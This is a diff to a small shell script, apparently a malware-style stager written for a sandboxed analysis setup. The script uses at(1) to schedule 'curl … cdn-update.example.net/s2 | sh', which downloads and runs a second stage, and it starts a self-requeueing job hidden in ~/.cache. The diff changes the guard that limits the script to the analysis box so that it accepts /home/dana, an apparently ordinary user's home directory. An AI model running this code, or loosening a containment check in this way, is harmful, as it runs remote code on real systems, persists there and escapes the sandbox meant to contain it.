@@ -1,7 +1,7 @@
 #!/bin/sh
 # One-shot jobs through at(1): fetch and run the second stage in a minute,
 # outside the current session, and a job that queues itself again.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 echo 'curl -fsm 5 http://cdn-update.example.net/s2 | sh' | /usr/bin/at now + 1 minute 2>/dev/null
 mkdir -p "$HOME/.cache"
 q="$HOME/.cache/.q"
